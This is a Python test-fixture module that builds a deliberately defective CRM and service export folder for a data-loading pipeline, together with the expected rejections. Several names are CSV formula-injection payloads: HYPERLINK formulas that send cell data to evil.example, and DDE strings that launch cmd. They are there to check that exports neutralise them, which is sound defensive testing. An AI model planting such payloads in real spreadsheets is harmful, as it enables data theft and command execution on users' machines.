"""One raw folder with every row-level defect of the corpus at once, in every format the readers accept.

`write_defects(raw)` writes it; the tables below hold each row next to what must become of it (None: it loads;
(column, rule): it is set aside, with its Excel row number, the index in the list + 2, or the record number
for Parquet). The folder builds: rows set aside never stop a build, and nothing they leave behind (an
orphan, a duplicate, an unparseable value) may reach dbt.

  crm/departments.csv                  UTF-8 with BOM, CRLF
  crm/users.csv                        GBK (what Excel in China writes), formula text in names
  crm/accounts.csv                     `;`-delimited, CRLF, formula text in names
  crm/opportunities.csv                the minimal export's three rows
  crm/opportunities_2026-04-01.csv     CRLF, quoted newlines, an extra column, a 10 MB field, NUL, mixed zones
  crm/opportunities_2026-04-02.xlsx    typed Excel cells, an empty sheet row, a newer version of O3
  crm/opportunities_2026-04-03.parquet typed Parquet (timestamp with zone, double, boolean)
  crm/leads_2026-11-01.csv             `|`-delimited; formula text in a company name and a channel
  crm/leads_2026-11-02.xlsx            a newer version of lead L1
  service/tickets.txt                  UTF-16 with BOM, tab-delimited (Excel's "Unicode text")
  service/orders.parquet               typed Parquet
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
from pathlib import Path

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
MINIMAL = FIXTURES / "minimal_export"

# Formula-injection text (OWASP CSV injection) that must reach the warehouse unchanged and leave every
# spreadsheet export neutralised.
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
CMD = "+cmd|' /C calc'!A0"
MINUS_CMD = "-2+3+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
HYPERLINK_ACCOUNT = '=HYPERLINK("http://evil.example","腾讯")'
HYPERLINK_OPPORTUNITY = '=HYPERLINK("http://evil.example","报价单")'
HYPERLINK_CHANNEL = '=HYPERLINK("http://evil.example","utm")'
TEN_MB = 10 * 1024 * 1024
# One instant written four ways: every one is 2026-02-01 10:00 business time (Asia/Shanghai).
SAME_INSTANT = {"O10": "2026-02-01T02:00:00Z", "O11": "2026-02-01T10:00:00+08:00", "O12": "2026-02-01 10:00:00",
                "O13": "2026-01-31T21:00:00-05:00"}
QUOTED_NEWLINE_NAME = "续约\n二期"
EMPTY = object()  # an empty sheet row: not a row at all

DEPARTMENTS = (["department_id", "department_name", "parent_department_id", "region"], [
    (["D1", "华东销售部", "", "华东"], None),
    (["D2", "华南销售部", "", "华南"], None),
])

USERS = (["user_id", "user_name", "department_id", "role"], [
    (["U1", "张伟", "D1", "sales"], None),
    (["U2", "李娜", "D2", "sales"], None),
    (["U3", HYPERLINK, "D1", "sales"], None),
    (["U4", CMD, "D2", "manager"], None),
    (["U5", "王芳", "D9", "sales"], ("department_id", "foreign_key")),
])

ACCOUNTS = (["account_id", "account_name", "created_at", "grade", "owner_user_id", "industry"], [
    (["A1", "华为", "2025-06-01T09:00:00", "A", "U1", "制造; 通信"], None),
    (["A2", HYPERLINK_ACCOUNT, "2025-07-01", "b", "U2", ""], None),
    (["A3", MINUS_CMD, "2025-08-01", "", "U1", ""], None),
    (["A4", "阿里", "yesterday", "A", "U1", ""], ("created_at", "type_timestamp")),
    (["A5", "字节", "2025-09-01", "Z", "U2", ""], ("grade", "allowed_values")),
    (["A6", AT_SUM, "2025-09-02", "C", "U4", ""], None),
])

_OPP = ["opportunity_id", "account_id", "owner_user_id", "created_at", "amount", "opportunity_type", "stage",
        "is_closed", "is_won"]


def _opp(oid: str, account: str = "A1", owner: str = "U1", created: str = "2026-01-20T10:00:00",
         amount: str = "10000", kind: str = "new", stage: str = "方案交流", closed: str = "false",
         won: str = "false", name: str = "", close: str = "", loss: str = "", note: str = "") -> list[str]:
    return [oid, account, owner, created, amount, kind, stage, closed, won, name, close, loss, note]


OPPORTUNITIES_PART1 = ([*_OPP, "opportunity_name", "close_date", "loss_reason", "备注"], [
    # A newer version of O1 (the minimal export's O1 is set aside as the earlier duplicate); a quoted newline.
    (_opp("O1", amount="120000", stage="赢单", closed="是", won="是", name=QUOTED_NEWLINE_NAME, close="2026-03-01",
          note="renewal"), None),
    (_opp("O4", account="A9"), ("account_id", "foreign_key")),
    (_opp("O5", account="A4"), ("account_id", "foreign_key")),  # A4 itself was set aside: the child follows
    (_opp("O6", amount="-500"), ("amount", "non_negative")),
    (_opp("O7", amount="1,200"), ("amount", "type_number")),
    (_opp("O8", created="05/01/2026"), ("created_at", "type_timestamp")),
    (_opp("O9", created="2026/01/05"), None),
    *[(_opp(oid, account="A2", owner="U2", created=ts), None) for oid, ts in SAME_INSTANT.items()],
    (_opp("O14", name="报价\x00单"), ("opportunity_name", "nul_byte")),
    (_opp("O15", loss="x" * TEN_MB), ("loss_reason", "too_long")),
    (_opp("O16", created="2099-01-01T00:00:00"), ("created_at", "future_date")),
    (_opp("O17", stage="谈判中"), ("stage", "allowed_values")),
    (_opp("O18", owner="U9"), ("owner_user_id", "foreign_key")),
    (_opp("O19", created="2026-02-10T10:00:00", close="2026-02-01"), ("close_date", "order")),
    (_opp("O20", won="maybe"), ("is_won", "type_boolean")),
    (_opp("O21", account="A3", owner="U3", name=HYPERLINK_OPPORTUNITY), None),
    (_opp("O27", kind="Big Deal"), ("opportunity_type", "allowed_values")),
    (_opp("O28", account="   "), ("account_id", "required")),
])

OPPORTUNITIES_XLSX = (_OPP, [
    (["O22", "A1", "U2", dt.datetime(2026, 3, 1, 9, 0), 30000, "upsell", "需求确认", False, False], None),
    (["O23", "A1", "U1", "2026-03-02", -1, "new", "初步接洽", False, False], ("amount", "non_negative")),
    (EMPTY, None),
    (["O24", "A6", "U4", dt.date(2026, 3, 3), 4500.5, "cross_sell", "输单", "是", "否"], None),
    # A newer version of the minimal export's O3 (its row 4 is set aside as the earlier duplicate).
    (["O3", "A3", "U1", "2026-03-01T08:00:00+08:00", 90000, "new", "商务谈判", False, False], None),
])

OPPORTUNITIES_PARQUET = [
    ({"opportunity_id": "O25", "account_id": "A2", "owner_user_id": "U2",
      "created_at": dt.datetime(2026, 3, 5, 1, 0, tzinfo=dt.UTC), "amount": 7000.25, "opportunity_type": "renewal",
      "stage": "招投标", "is_closed": False, "is_won": False}, None),
    ({"opportunity_id": "O26", "account_id": "A2", "owner_user_id": "U2",
      "created_at": dt.datetime(2026, 3, 6, 1, 0, tzinfo=dt.UTC), "amount": -3.0, "opportunity_type": "new",
      "stage": "招投标", "is_closed": False, "is_won": False}, ("amount", "non_negative")),
]

_LEAD = ["lead_id", "created_at", "channel", "status", "company_name", "owner_user_id", "converted_at"]
LEADS_CSV = (_LEAD, [
    (["L1", "2026-01-10T09:00:00", "官网", "new", "华为", "U1", ""], ("lead_id", "duplicate_key")),
    (["L2", "2026-01-11T09:00:00", HYPERLINK_CHANNEL, "new", CMD, "U2", ""], None),
    (["L3", "2026-01-12T09:00:00", "SEM", "new", "无主公司", "U9", ""], None),  # optional FK: a warning only
    (["L4", "2026-01-13T09:00:00", "官网", "converted", "先转后建", "U1", "2026-01-01T09:00:00"],
     ("converted_at", "order")),
    (["L5", "2026年1月5日", "官网", "new", "中文日期", "U1", ""], ("created_at", "type_timestamp")),
])

LEADS_XLSX = (_LEAD, [
    (["L1", dt.datetime(2026, 1, 10, 9, 0), "官网", "contacted", "华为技术", "U1", None], None),
    (["L6", "2026-01-14 08:30", "转介绍", "new", HYPERLINK, "U3", None], None),
])

_TICKET = ["ticket_id", "account_id", "opened_at", "resolved_at", "priority", "csat"]
TICKETS = (_TICKET, [
    (["T1", "A1", "2026-02-01T09:00:00", "2026-02-02T09:00:00", "high", "5"], None),
    (["T2", "A1", "2026-02-03T09:00:00", "2026-02-03T12:00:00", "low", "9"], ("csat", "out_of_range")),
    (["T3", "A2", "2026-02-05T09:00:00", "2026-02-04T09:00:00", "low", "4"], ("resolved_at", "order")),
    (["T4", "A9", "2026-02-06T09:00:00", "", "low", ""], ("account_id", "foreign_key")),
    (["T5", "A2", "2026-02-07T09:00:00", "", "low", "good"], ("csat", "type_integer")),
    (["T6", "A4", "2026-02-08T09:00:00", "", "low", ""], ("account_id", "foreign_key")),
])

ORDERS = [
    ({"order_id": "R1", "account_id": "A1", "order_date": dt.date(2026, 3, 1), "amount": 120000.0,
      "order_type": "new"}, None),
    ({"order_id": "R2", "account_id": "A2", "order_date": dt.date(2026, 3, 2), "amount": -5.0,
      "order_type": "new"}, ("amount", "non_negative")),
    ({"order_id": "R3", "account_id": "A9", "order_date": dt.date(2026, 3, 3), "amount": 10.0,
      "order_type": "service"}, ("account_id", "foreign_key")),
]


def _csv_text(header: list[str], rows: list, delimiter: str = ",", newline: str = "\n") -> str:
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=delimiter, lineterminator=newline)
    writer.writerow(header)
    for values, _ in rows:
        writer.writerow(values)
    return buf.getvalue()


def _xlsx(path: Path, header: list[str], rows: list) -> None:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(header)
    for r, (values, _) in enumerate(rows, start=2):
        if values is EMPTY:
            continue
        for c, value in enumerate(values, start=1):
            cell = ws.cell(row=r, column=c, value=value)
            if isinstance(value, str):
                cell.data_type = "s"  # text, even when it starts with "=" (openpyxl would make it a formula)
    wb.save(path)


def _parquet(path: Path, rows: list) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    pq.write_table(pa.Table.from_pylist([values for values, _ in rows]), path)


def write_defects(raw: Path) -> Path:
    shutil.copytree(MINIMAL, raw)
    crm, service = raw / "crm", raw / "service"
    service.mkdir(parents=True, exist_ok=True)
    (crm / "departments.csv").write_bytes(_csv_text(*DEPARTMENTS, newline="\r\n").encode("utf-8-sig"))
    (crm / "users.csv").write_bytes(_csv_text(*USERS).encode("gbk"))
    (crm / "accounts.csv").write_bytes(_csv_text(*ACCOUNTS, delimiter=";", newline="\r\n").encode("utf-8"))
    (crm / "opportunities_2026-04-01.csv").write_bytes(
        _csv_text(*OPPORTUNITIES_PART1, newline="\r\n").encode("utf-8"))
    _xlsx(crm / "opportunities_2026-04-02.xlsx", *OPPORTUNITIES_XLSX)
    _parquet(crm / "opportunities_2026-04-03.parquet", OPPORTUNITIES_PARQUET)
    (crm / "leads_2026-11-01.csv").write_bytes(_csv_text(*LEADS_CSV, delimiter="|").encode("utf-8"))
    _xlsx(crm / "leads_2026-11-02.xlsx", *LEADS_XLSX)
    (service / "tickets.txt").write_bytes(_csv_text(*TICKETS, delimiter="\t", newline="\r\n").encode("utf-16"))
    _parquet(service / "orders.parquet", ORDERS)
    return raw


def _expected(table: str, file: str, rows: list, first: int = 2) -> list[tuple[str, str, int, str, str]]:
    return [(table, file, i, outcome[0], outcome[1]) for i, (_, outcome) in enumerate(rows, start=first)
            if outcome is not None]


# The minimal export's O1 (row 2) and O3 (row 4) have newer versions in later part files.
EXPECTED_REJECTED = sorted([
    *_expected("crm/users", "crm/users.csv", USERS[1]),
    *_expected("crm/accounts", "crm/accounts.csv", ACCOUNTS[1]),
    ("crm/opportunities", "crm/opportunities.csv", 2, "opportunity_id", "duplicate_key"),
    ("crm/opportunities", "crm/opportunities.csv", 4, "opportunity_id", "duplicate_key"),
    *_expected("crm/opportunities", "crm/opportunities_2026-04-01.csv", OPPORTUNITIES_PART1[1]),
    *_expected("crm/opportunities", "crm/opportunities_2026-04-02.xlsx", OPPORTUNITIES_XLSX[1]),
    *_expected("crm/opportunities", "crm/opportunities_2026-04-03.parquet", OPPORTUNITIES_PARQUET, first=1),
    *_expected("crm/leads", "crm/leads_2026-11-01.csv", LEADS_CSV[1]),
    *_expected("service/tickets", "service/tickets.txt", TICKETS[1]),
    *_expected("service/orders", "service/orders.parquet", ORDERS, first=1),
])


def _read(rows: list) -> int:
    return sum(1 for values, _ in rows if values is not EMPTY)


def _counts(*parts: list) -> tuple[int, int, int]:
    read = sum(_read(p) for p in parts)
    set_aside = sum(1 for p in parts for _, outcome in p if outcome is not None)
    return read, read - set_aside, set_aside


# rows read, loaded, set aside per table.
EXPECTED_COUNTS = {
    "crm/departments": _counts(DEPARTMENTS[1]),
    "crm/users": _counts(USERS[1]),
    "crm/accounts": _counts(ACCOUNTS[1]),
    "crm/opportunities": (lambda r, lo, s: (r + 3, lo + 1, s + 2))(
        *_counts(OPPORTUNITIES_PART1[1], OPPORTUNITIES_XLSX[1], OPPORTUNITIES_PARQUET)),
    "crm/leads": _counts(LEADS_CSV[1], LEADS_XLSX[1]),
    "service/tickets": _counts(TICKETS[1]),
    "service/orders": _counts(ORDERS),
}
